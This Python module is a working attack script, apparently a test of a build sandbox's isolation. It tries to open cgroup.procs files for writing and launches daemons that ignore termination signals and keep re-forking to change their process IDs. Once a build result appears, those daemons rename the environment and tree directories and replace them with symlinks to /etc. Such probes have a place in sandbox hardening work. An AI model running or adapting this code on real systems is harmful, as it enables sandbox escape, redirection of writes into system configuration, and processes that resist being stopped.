"""Start processes that replace folders by symlinks to /etc as soon as the build has a result."""

import os
import signal
import time

from tools import ENVIRONMENT, RESULTS, SETTINGS, TREE, attempt, daemon


def swap():
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(number, signal.SIG_IGN)
    attempt(os.nice, -20)
    start = time.monotonic()
    while time.monotonic() < start + SETTINGS["seconds"]:
        if os.fork():  # a new process ID each time
            os._exit(0)
        if not (RESULTS / "result.json").exists():
            time.sleep(0.01)
            continue
        for top in (ENVIRONMENT / "lib", ENVIRONMENT, TREE):
            for folder in [entry.path for entry in os.scandir(top) if entry.is_dir(follow_symlinks=False)]:
                attempt(os.rename, folder, f"{folder}.was")
                attempt(os.symlink, "/etc", folder)


def run():
    report = {}
    for path in ("/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/system.slice/cgroup.procs"):
        report[path] = attempt(os.open, path, os.O_WRONLY)
    for _ in range(4):
        daemon(swap)
    return report
